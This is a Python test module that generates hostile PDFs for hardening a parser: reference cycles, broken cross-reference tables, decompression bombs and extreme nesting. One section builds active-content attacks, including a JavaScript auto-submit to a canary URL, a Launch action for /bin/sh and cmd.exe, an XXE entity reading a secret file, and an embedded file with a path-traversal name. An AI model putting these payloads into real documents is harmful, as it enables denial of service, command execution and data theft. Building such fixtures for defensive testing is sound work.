"""PDFs with loops, bombs and locks, written by hand so that nothing repairs them on the way."""

# ruff: noqa: E501 - tables, a line for each file

from __future__ import annotations

import base64
import zlib
from collections.abc import Iterator

from tests.trust.hostile.archives import CALLED, SECRET

CATALOG, FONT = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
WORDS = b"BT /F 12 Tf 20 100 Td (Programe servicios web en Python para una biblioteca) Tj ET"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Resources<</Font<</F 5 0 R>>>>/Contents 4 0 R>>"
MEGABYTE = 1024 * 1024


def stream(content: bytes, entries: bytes = b"", *, length: bytes | None = None) -> bytes:
    size = b"%d" % len(content) if length is None else length
    return b"<</Length " + size + entries + b">>\nstream\n" + content + b"\nendstream"


def pdf(changed: dict[int, bytes] | None = None, *, trailer: bytes = b"", start: int | None = None) -> bytes:
    """A one-page PDF with these objects replaced or added."""
    objects = {1: CATALOG, 2: PAGES, 3: PAGE, 4: stream(WORDS), 5: FONT} | (changed or {})
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, content in sorted(objects.items()):
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (max(objects) + 1)
    for number in range(1, max(objects) + 1):
        out += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n"
    out += b"trailer\n<</Size %d/Root 1 0 R" % (max(objects) + 1) + trailer + b">>\nstartxref\n"
    return bytes(out) + b"%d\n%%%%EOF" % (table if start is None else start)


def contents(data: bytes, entries: bytes = b"") -> bytes:
    """A PDF whose page draws this."""
    return pdf({4: stream(data, entries)})


def packed(data: bytes, times: int = 1) -> bytes:
    for _ in range(times):
        data = zlib.compress(data, 9)
    return contents(data, b"/Filter[" + b"/FlateDecode" * times + b"]")


def files() -> Iterator[tuple[str, bytes]]:
    yield "good", pdf()
    yield from trees()
    yield from tables()
    yield from bombs()
    yield from drawings()
    yield from depths()
    yield from powers()


def trees() -> Iterator[tuple[str, bytes]]:
    for name, pages in {
        "kids are themselves": b"<</Type/Pages/Kids[2 0 R]/Count 1>>",
        "kids are the catalog": b"<</Type/Pages/Kids[1 0 R]/Count 1>>",
        "kids are missing": b"<</Type/Pages/Count 1>>", "kids are a number": b"<</Type/Pages/Kids 7/Count 1>>",
        "kids are nothing": b"<</Type/Pages/Kids[9 0 R null 4 0 R]/Count 3>>", "no count": b"<</Type/Pages/Kids[3 0 R]>>",
        "count is a word": b"<</Type/Pages/Kids[3 0 R]/Count/Many>>", "the page 100,000 times": b"<</Type/Pages/Kids[" + b"3 0 R " * 100_000 + b"]/Count 100000>>",
        "the page 201 times": b"<</Type/Pages/Kids[" + b"3 0 R " * 201 + b"]/Count 201>>",
        "the page 199 times": b"<</Type/Pages/Kids[" + b"3 0 R " * 199 + b"]/Count 199>>",
    }.items():  # fmt: skip
        yield name, pdf({2: pages})
    for count in (-1, 0, 2, 10**9, 10**30):
        yield f"count {count}", pdf({2: b"<</Type/Pages/Kids[3 0 R]/Count %d>>" % count})
    yield (
        "parents in a ring",
        pdf(
            {
                2: b"<</Type/Pages/Kids[3 0 R]/Count 1/Parent 6 0 R>>",
                6: b"<</Type/Pages/Kids[2 0 R]/Parent 2 0 R/Count 1>>",
            }
        ),
    )
    yield (
        "two nodes in a ring",
        pdf({2: b"<</Type/Pages/Kids[6 0 R]/Count 1>>", 6: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"}),
    )
    for depth in (50, 400, 5_000, 30_000):
        chain = {
            n: b"<</Type/Pages/Kids[%d 0 R]/Count 1/Parent %d 0 R>>" % (n + 1, n - 1) for n in range(10, 10 + depth)
        }
        last = {10 + depth: PAGE.replace(b"/Parent 2", b"/Parent %d" % (9 + depth))}
        yield f"{depth} nodes deep", pdf({2: b"<</Type/Pages/Kids[10 0 R]/Count 1>>"} | chain | last)
    for width, depth in ((2, 20), (10, 6), (30, 10)):  # every node names the next one many times
        chain = {
            n: b"<</Type/Pages/Count %d/Kids[" % width**depth + b"%d 0 R " % (n + 1) * width + b"]>>"
            for n in range(10, 10 + depth)
        }
        yield (
            f"{width} to the {depth} pages",
            pdf({2: b"<</Type/Pages/Kids[10 0 R]/Count 1>>", 10 + depth: PAGE} | chain),
        )
    yield "a page that is its own contents", pdf({3: PAGE.replace(b"4 0 R", b"3 0 R")})
    yield "a reference to itself", pdf({4: b"4 0 R"})
    yield "references in a ring", pdf({4: b"6 0 R", 6: b"4 0 R"})
    yield "contents 50,000 times", pdf({3: PAGE.replace(b"/Contents 4 0 R", b"/Contents[" + b"4 0 R " * 50_000 + b"]")})
    yield "resources in a ring", pdf({3: PAGE.replace(b"<</Font<</F 5 0 R>>>>", b"3 0 R")})


def tables() -> Iterator[tuple[str, bytes]]:
    plain = pdf()
    place = plain.rfind(b"xref\n0")
    for name, extra in {
        "its own": b"/Prev %d" % place, "zero": b"/Prev 0", "below zero": b"/Prev -5", "far away": b"/Prev 99999999999",
        "and a stream": b"/XRefStm %d" % place, "a word": b"/Prev/X",
    }.items():  # fmt: skip
        yield f"earlier table {name}", pdf(trailer=extra)
    for start in (0, -1, 5, len(plain) + 10, 10**18):
        yield f"table at {start}", pdf(start=start)
    yield "a thousand tables", plain + b"".join(b"\nstartxref\n%d\n%%%%EOF" % place for _ in range(1000))
    yield "table of ten million", plain.replace(b"xref\n0 6", b"xref\n0 10000000")
    yield "table said to be negative", plain.replace(b"xref\n0 6", b"xref\n-6 6")
    yield "no table", plain[:place]
    yield "no root", plain.replace(b"/Root 1 0 R", b"")
    yield "root is a page", plain.replace(b"/Root 1 0 R", b"/Root 3 0 R")
    yield "head alone", b"%PDF-1.7\n"
    yield "head, then blanks", b"%PDF-1.7\n" + b" " * MEGABYTE
    yield (
        "head, then half a million objects",
        b"%PDF-1.7\n" + b"".join(b"%d 0 obj\n<<>>\nendobj\n" % n for n in range(200_000)),
    )
    yield "head, then obj obj obj", b"%PDF-1.7\n" + b"1 0 obj " * 500_000
    yield "end a million times", plain + b"%%EOF\n" * 500_000
    for width in (b"[1 2 1]", b"[0 0 0]", b"[1 1000000 1]", b"[-1 2 1]", b"[1]", b"[9 9 9 9 9]"):
        for index in (b"[0 6]", b"[0 2000000000]", b"[5 -5]"):
            body = b"%PDF-1.7\n1 0 obj\n" + CATALOG + b"\nendobj\n"
            table = stream(
                zlib.compress(bytes(range(60))),
                b"/Type/XRef/Filter/FlateDecode/Size 6/Root 1 0 R/W" + width + b"/Index" + index,
            )
            yield (
                f"stream table {width.decode()} {index.decode()}",
                body + b"9 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF" % len(body),
            )
    for name, inner in (("itself", b"6 0 "), ("the pages", b"2 0 "), ("far", b"2 99999999 "), ("words", b"x y ")):
        entry = stream(inner + PAGES, b"/Type/ObjStm/N 1/First 4/Extends 6 0 R")
        yield f"object stream that holds {name}", pdf({6: entry, 2: b"6 0 R"})
    yield "object stream of ten million", pdf({6: stream(b"2 0 ", b"/Type/ObjStm/N 10000000/First 4"), 2: b"6 0 R"})


def bombs() -> Iterator[tuple[str, bytes]]:
    for megabytes in (10, 74, 76, 300):
        piece, whole = zlib.compressobj(9), bytearray()
        for _ in range(megabytes):
            whole += piece.compress(b" " * MEGABYTE)
        yield f"{megabytes} MB of blanks", contents(bytes(whole + piece.flush()), b"/Filter/FlateDecode")
    for times in (2, 3, 20, 500):
        yield f"packed {times} times", packed(WORDS * 20_000, times)
    yield (
        "200 bombs",
        pdf(
            {
                2: b"<</Type/Pages/Kids[" + b"3 0 R " * 200 + b"]/Count 200>>",
                4: stream(zlib.compress(b"q Q " * 15_000_000), b"/Filter/FlateDecode"),
            }
        ),
    )
    for name, parameters in {
        "columns": b"/Predictor 12/Columns 2147483647", "no columns": b"/Predictor 12/Columns 0", "colours": b"/Predictor 15/Colors 99999999/BitsPerComponent 64",
        "predictor": b"/Predictor 99", "below zero": b"/Predictor 2/Columns -1",
    }.items():  # fmt: skip
        yield (
            f"predictor: {name}",
            contents(zlib.compress(WORDS * 50), b"/Filter/FlateDecode/DecodeParms<<" + parameters + b">>"),
        )
    for name, data in {
        "LZWDecode": bytes([128]) + b"\xff" * 200_000, "RunLengthDecode": b"\x81 " * 1_000_000, "ASCIIHexDecode": b"20" * 2_000_000,
        "ASCII85Decode": b"z" * 2_000_000, "CCITTFaxDecode": bytes(5000), "DCTDecode": b"\xff\xd8" + bytes(5000), "JPXDecode": bytes(5000),
        "JBIG2Decode": bytes(5000), "Crypt": bytes(500), "Nothing": WORDS,
    }.items():  # fmt: skip
        yield f"{name} long", contents(data, b"/Filter/" + name.encode())
        yield f"{name} of words", contents(WORDS, b"/Filter/" + name.encode())
    yield (
        "base 85, then packed",
        contents(base64.a85encode(zlib.compress(b" " * 50 * MEGABYTE)) + b"~>", b"/Filter[/ASCII85Decode/FlateDecode]"),
    )
    for length in (b"-1", b"0", b"99999999999", b"4 0 R", b"/X", b"[1]"):
        yield f"length {length.decode()}", pdf({4: stream(WORDS, length=length)})


def drawings() -> Iterator[tuple[str, bytes]]:
    yield "half a million words", contents(b"BT /F 12 Tf " + b"1 0 Td (Python) Tj " * 250_000 + b"ET")
    yield "one array of a million", contents(b"BT /F 12 Tf [" + b"(a)-500" * 700_000 + b"]TJ ET")
    yield "a string of four megabytes", contents(b"BT /F 12 Tf (" + b"a" * 4 * MEGABYTE + b")Tj ET")
    yield "an open string", contents(b"BT /F 12 Tf (" + b"(" * MEGABYTE)
    yield "a million saves", contents(b"q " * 1_000_000 + WORDS)
    yield "a million restores", contents(b"Q " * 1_000_000 + WORDS)
    yield "huge numbers", contents(b"BT /F 1e308 Tf 1e308 -1e308 Td 9" + b"9" * 5000 + b" 0 0 1 0 0 Tm (Python) Tj ET")
    yield (
        "a picture in line",
        contents(b"BI /W 99999999 /H 99999999 /BPC 8 /CS /RGB ID " + bytes(100_000) + b" " + WORDS),
    )
    for size in (b"[0 0 1e30 1e30]", b"[]", b"[a b c d]", b"4 0 R", b"[0 0 0 0]"):
        yield f"page of {size.decode()}", pdf({3: PAGE.replace(b"[0 0 300 300]", size)})
    forms = PAGE.replace(b"/Font<<", b"/XObject<</X 10 0 R>>/Font<<")
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</Font<</F 5 0 R>>/XObject<</X %d 0 R>>>>"
    yield "a form in itself", pdf({3: forms, 4: stream(b"/X Do"), 10: stream(b"/X Do " + WORDS, form % 10)})
    for width, depth in ((2, 12), (2, 25), (10, 10)):
        chain = {n: stream(b"/X Do " * width, form % (n + 1)) for n in range(10, 10 + depth)}
        yield (
            f"forms, {width} to the {depth}",
            pdf({3: forms, 4: stream(b"/X Do"), 10 + depth: stream(WORDS, form % 5)} | chain),
        )
    for name, unicode_map in {
        "a range of four billion": b"1 beginbfrange <00000000> <ffffffff> <0041> endbfrange",
        "a range of 65,536": b"1 beginbfrange <0000> <ffff> <0041> endbfrange",
        "ranges, 5,000 times": b"1 beginbfrange <0000> <ffff> <0041> endbfrange\n" * 5_000,
        "a backward range": b"1 beginbfrange <ffff> <0000> <0041> endbfrange", "long targets": b"1 beginbfchar <41> <" + b"0041" * 200_000 + b"> endbfchar",
        "an open range": b"9999999 beginbfrange <00> <" + b"0" * 100_000, "not hex": b"1 beginbfchar <zz> <yy> endbfchar",
    }.items():  # fmt: skip
        font = FONT[:-2] + b"/ToUnicode 6 0 R>>"
        yield (
            f"letters: {name}",
            pdf({5: font, 6: stream(b"begincmap 1 begincodespacerange <00> <ff> endcodespacerange " + unicode_map)}),
        )
    yield "a font that is a ring", pdf({5: b"<</Type/Font/Subtype/Type0/Encoding/Identity-H/DescendantFonts[5 0 R]>>"})
    yield (
        "a font with a million widths",
        pdf({5: FONT[:-2] + b"/FirstChar 0/LastChar 1000000/Widths[" + b"1 " * 1_000_000 + b"]>>"}),
    )
    yield "a font with odd differences", pdf({5: FONT[:-2] + b"/Encoding<</Differences[-5/a 99999999999/b/c(x)]>>>>"})


def depths() -> Iterator[tuple[str, bytes]]:
    for depth in (100, 900, 5_000, 200_000, 1_000_000):
        yield f"{depth} arrays deep", pdf({6: b"[" * depth + b"]" * depth}, trailer=b"/Info 6 0 R")
        yield f"{depth} entries deep", pdf({3: PAGE[:-2] + b"/X" + b"<</A" * depth + b" 1" + b">>" * depth + b">>"})
        yield f"{depth} brackets deep in the drawing", contents(b"[" * depth + b"]" * depth + WORDS)
        yield f"{depth} open arrays", pdf({3: b"<</Type/Page/Contents" + b"[" * depth})
    yield "a name of four megabytes", pdf({3: PAGE[:-2] + b"/" + b"A" * 4 * MEGABYTE + b" 1>>"})
    yield "a comment of four megabytes", pdf({3: b"%" + b"c" * 4 * MEGABYTE + b"\n" + PAGE})
    yield "a number of a million digits", pdf({3: PAGE[:-2] + b"/Rotate " + b"9" * MEGABYTE + b">>"})
    yield "hex of four megabytes", pdf({3: PAGE[:-2] + b"/X<" + b"41" * 2 * MEGABYTE + b">>>"})


def powers() -> Iterator[tuple[str, bytes]]:
    for name, action in {
        "script": b"/S/JavaScript/JS(app.alert(1);this.submitForm('" + CALLED.encode() + b"'))", "program": b"/S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>",
        "address": b"/S/URI/URI(" + CALLED.encode() + b")", "form": b"/S/SubmitForm/F(" + CALLED.encode() + b")", "other file": b"/S/GoToR/F(" + SECRET.encode() + b")",
        "import": b"/S/ImportData/F(" + SECRET.encode() + b")",
    }.items():  # fmt: skip
        yield (
            f"opens: {name}",
            pdf({1: CATALOG[:-2] + b"/OpenAction<<" + action + b">>/AA<</WC<<" + action + b">>>>>>"}),
        )
    spec = b"<</Type/Filespec/F(../../escape.exe)/UF(../../escape.exe)/EF<</F 7 0 R>>>>"
    yield (
        "a file within",
        pdf({1: CATALOG[:-2] + b"/Names<</EmbeddedFiles<</Names[(a) 6 0 R]>>>>>>", 6: spec, 7: stream(b"MZ" * 500)}),
    )
    yield (
        "contents from outside",
        pdf({4: b"<</Length 0/F(" + SECRET.encode() + b")/FFilter/FlateDecode>>\nstream\n\nendstream"}),
    )
    yield (
        "contents from the web",
        pdf({4: b"<</Length 0/F<</FS/URL/F(" + CALLED.encode() + b")>>>>\nstream\n\nendstream"}),
    )
    xfa = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file://' + SECRET.encode() + b'">]><x>&a;</x>'
    yield "XFA", pdf({1: CATALOG[:-2] + b"/AcroForm<</XFA 6 0 R>>/Metadata 6 0 R>>", 6: stream(xfa)})
    for name, lock in {
        "unknown": b"/Filter/Standard/V 99/R 99/O()/U()/P 0", "no filter": b"/V 1/R 2/O()/U()/P 0", "key of 2^31": b"/Filter/Standard/V 2/R 3/Length 2147483647/O(" + b"o" * 32 + b")/U(" + b"u" * 32 + b")/P -1",
        "short": b"/Filter/Standard/V 5/R 6/Length 256/O(a)/U(b)/OE(c)/UE(d)/Perms(e)/P -1", "other": b"/Filter/Acme.Lock/V 4", "itself": b"/Filter 6 0 R/V 6 0 R/R 6 0 R",
        "long": b"/Filter/Standard/V 5/R 6/Length 256/O(" + b"o" * 48 + b")/U(" + b"u" * 500_000 + b")/OE(" + b"e" * 32 + b")/UE(" + b"e" * 32 + b")/Perms(" + b"p" * 16 + b")/P -1",
    }.items():  # fmt: skip
        yield f"lock: {name}", pdf({6: b"<<" + lock + b">>"}, trailer=b"/Encrypt 6 0 R/ID[(a)(a)]")
